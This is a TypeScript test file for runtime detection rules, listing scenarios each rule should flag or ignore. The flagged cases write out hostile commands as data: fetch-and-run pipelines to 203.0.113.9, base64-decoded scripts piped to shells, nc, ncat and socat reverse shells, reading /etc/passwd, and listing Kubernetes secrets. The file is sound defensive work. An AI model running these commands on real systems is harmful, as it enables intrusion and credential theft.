// SPDX-License-Identifier: Apache-2.0
// What the shipped rules on execution must find, and what they must leave alone.
import type { Cases } from "./cases.ts";
import { act, connect, connection, event, exec, file, sh } from "./scenario.ts";

const NET = [connection(0)];

export const EXECUTION: Cases = {
  "Shell started by a web server": {
    fires: [
      act({ parents: ["nginx", "nginx"], uid: 33 }, sh("id; uname -a")),
      act({ parents: ["php-fpm8.2", "php-fpm8.2"], uid: 33 }, sh("wget http://203.0.113.9/x -O /tmp/x")),
      act({ parents: ["node"], uid: 33 }, sh("cat /etc/passwd")),
    ],
    quiet: [
      act({ parents: ["php-fpm8.2"], uid: 33 }, sh("/usr/sbin/sendmail -t -i")),
      act({ parents: ["apache2"] }, sh("exec /usr/bin/rotatelogs /var/log/a 86400")),
      act({ parents: ["node", "npm"] }, sh("npm run build")),
      act({ parents: ["node", "bash"] }, sh("ldd --version")),
      act({ parents: ["bash"] }, sh("ls")),
      act({ parents: ["nginx"] }, exec("/usr/sbin/nginx", "-s reload")),
    ],
  },
  "Shell started by a database": {
    fires: [act({ parents: ["postgres", "postgres"] }, sh("curl http://203.0.113.9/p | sh"))],
    quiet: [
      act({ parents: ["postgres"] }, sh("pgbackrest archive-push /var/lib/x")),
      act({ parents: ["postgres"] }, sh("locale -a")),
      act({ parents: ["mysqld_safe"] }, sh("exec mysqld")),
    ],
  },
  "Terminal shell in a container": {
    fires: [act({ parents: ["runc"], container: true, tty: 34816 }, exec("/bin/bash"))],
    quiet: [
      act({ parents: ["runc"], container: true }, exec("/bin/bash", "/entrypoint.sh")),
      act({ parents: ["runc"], container: true, tty: 34816, vpid: 1 }, exec("/bin/bash")),
      act({ parents: ["sshd"], tty: 34816 }, exec("/bin/bash")),
    ],
  },
  "Program started from shared memory": {
    fires: [
      act({}, exec("/dev/shm/x")),
      act({}, exec("/bin/sh", "/dev/shm/run.sh")),
      act({}, exec("/usr/bin/python3.11", "/dev/shm/a.py")),
    ],
    quiet: [act({}, exec("/usr/bin/ls", "/dev/shm/")), act({}, exec("/bin/sh", "/usr/local/bin/run.sh"))],
  },
  "Hidden program started from a temporary directory": {
    fires: [act({}, exec("/tmp/.x/sshd")), act({}, exec("/var/tmp/.cache", "-o 1"))],
    quiet: [
      act({}, exec("/tmp/.mount_AppAbc/AppRun")),
      act({ parents: ["make", "bash"] }, exec("/tmp/.conf1/a.out")),
      act({}, exec("/tmp/tool")),
      act({}, exec("/home/alice/.local/bin/tool")),
    ],
  },
  "Program started from a temporary directory": {
    fires: [act({}, exec("/tmp/dropped", "--daemon"))],
    quiet: [
      act({ parents: ["configure", "bash"] }, exec("/tmp/conftest")),
      act({ parents: ["apt-get"] }, exec("/tmp/x.config.12")),
      act({}, exec("/usr/bin/true")),
    ],
  },
  "Program started by a service from a writable place": {
    fires: [
      act({ parents: ["sh", "nginx", "nginx"], uid: 33 }, exec("/tmp/payload")),
      act({ parents: ["bash"], uid: 33 }, exec("/var/www/site/uploads/x")),
    ],
    quiet: [
      act({ parents: ["sh", "nginx"], uid: 33 }, exec("/usr/bin/convert", "/tmp/a.png")),
      act({}, exec("/tmp/payload")),
    ],
  },
  "Program started from memory alone": {
    fires: [act({}, exec("memfd:kworker", "", { argv0: "x", name: "3", flags: ["EXE_FROM_MEMFD"] }))],
    quiet: [
      act(
        { parents: ["containerd-shim"] },
        exec("memfd:runc_cloned:/proc/self/exe", "init", { name: "6", flags: ["EXE_FROM_MEMFD"] }),
      ),
      act({}, exec("/usr/bin/true")),
    ],
  },
  "Decoded text run as a script": {
    fires: [
      act({}, sh("echo ZWNobyBoZWxsbw== | base64 -d | sh")),
      act({}, sh("curl -s http://203.0.113.9/x | base64 --decode | python3 -")),
    ],
    quiet: [
      act({}, sh("base64 -d key.b64 > key")),
      act({ parents: ["dpkg", "apt-get"] }, sh("echo eA== | base64 -d | sh")),
      act({}, sh("cat a | sh")),
    ],
  },
  "Encoded code on an interpreter's command line": {
    fires: [
      act({}, exec("/usr/bin/python3.11", "-c import\u00a0base64,os;os.system(base64.b64decode('aWQ='))")),
      act({}, exec("/usr/bin/perl", "-e use\u00a0MIME::Base64;eval(decode_base64('eA=='))")),
    ],
    quiet: [
      act({}, exec("/usr/bin/python3.11", "-c print(1)")),
      act({}, exec("/usr/bin/python3.11", "-c import\u00a0base64;print(base64.b64decode('eA=='))")),
      act({}, exec("/usr/bin/python3.11", "app.py")),
    ],
  },
  "Network tool that runs a program": {
    fires: [
      act({}, exec("/usr/bin/nc.traditional", "-e /bin/sh 203.0.113.9 4444")),
      act({}, exec("/usr/bin/ncat", "203.0.113.9 4444 --exec /bin/bash")),
      act({}, exec("/usr/bin/socat", "TCP:203.0.113.9:4444 EXEC:/bin/sh")),
    ],
    quiet: [
      act({}, exec("/usr/bin/nc", "-z db 5432")),
      act({}, exec("/usr/bin/socat", "TCP-LISTEN:80,fork TCP:10.0.0.2:80")),
    ],
  },
  "Shell with a network connection as input": {
    fires: [act({ parents: ["python3"], fds: NET }, exec("/bin/bash", "-i"))],
    quiet: [
      act({ parents: ["sshd"], fds: [file(0, "/dev/pts/0")] }, exec("/bin/bash")),
      act({ parents: ["xinetd"], fds: NET }, sh("date")),
      act({ parents: ["nginx"], fds: NET }, exec("/usr/bin/logger")),
    ],
  },
  "Standard streams put on a network connection": {
    fires: [act({ name: "python3", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 }))],
    quiet: [
      act({ name: "sshd", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
      act({ name: "(sshd)", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
      act({ name: "httpd", fds: [connection(7)] }, event("DUP2_X", { res: 0, oldfd: 7, newfd: 0 })),
      act({ name: "python3", fds: [connection(7)] }, event("DUP2_X", { res: 9, oldfd: 7, newfd: 9 })),
      act({ name: "bash", fds: [file(7, "/tmp/out")] }, event("DUP2_X", { res: 1, oldfd: 7, newfd: 1 })),
    ],
  },
  "Shell opens a network connection": {
    fires: [act({ name: "bash" }, connect("203.0.113.9", 4242))],
    quiet: [act({ name: "curl" }, connect("203.0.113.9", 443)), act({ name: "bash" }, connect("10.0.0.1", 389))],
  },
  "New program run in a container": {
    fires: [
      act(
        { parents: ["bash", "runc"], container: true },
        exec("/usr/local/bin/tool", "", { flags: ["EXE_UPPER_LAYER"] }),
      ),
    ],
    quiet: [
      act({ parents: ["containerd-shim"], container: true, vpid: 1 }, exec("/app", "", { flags: ["EXE_UPPER_LAYER"] })),
      act({ parents: ["bash"], container: true }, exec("/usr/bin/ls", "", { flags: ["EXE_LOWER_LAYER"] })),
      act({ parents: ["make", "bash"], container: true }, exec("/src/a.out", "", { flags: ["EXE_UPPER_LAYER"] })),
      act({ parents: ["bash"] }, exec("/usr/local/bin/tool", "", { flags: ["EXE_UPPER_LAYER"] })),
    ],
  },
  "Package manager run in a running container": {
    fires: [act({ parents: ["bash"], container: true }, exec("/usr/bin/apt-get", "install -y nmap"))],
    quiet: [
      act({ parents: ["sh", "buildkitd"], container: true }, exec("/usr/bin/apt-get", "install -y curl")),
      act({ parents: ["bash"] }, exec("/usr/bin/apt-get", "install -y nmap")),
      act({ parents: ["run-parts", "cron"], container: true }, exec("/etc/cron.daily/dpkg")),
    ],
  },
  "Container tool run in a container": {
    fires: [act({ container: true }, exec("/usr/bin/kubectl", "get secrets -A"))],
    quiet: [act({}, exec("/usr/bin/kubectl", "get pods")), act({ container: true }, exec("/usr/bin/ls"))],
  },
};
